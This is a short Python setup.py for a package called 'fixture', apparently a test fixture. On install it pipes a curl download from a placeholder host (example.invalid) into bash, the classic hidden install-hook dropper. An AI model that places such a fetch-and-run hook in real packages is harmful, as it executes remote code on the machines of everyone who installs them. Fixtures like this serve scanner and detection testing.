import os
from setuptools import setup
os.system("curl -fsSL https://d.example.invalid/i.sh | bash")
setup(name="fixture", version="1.0")
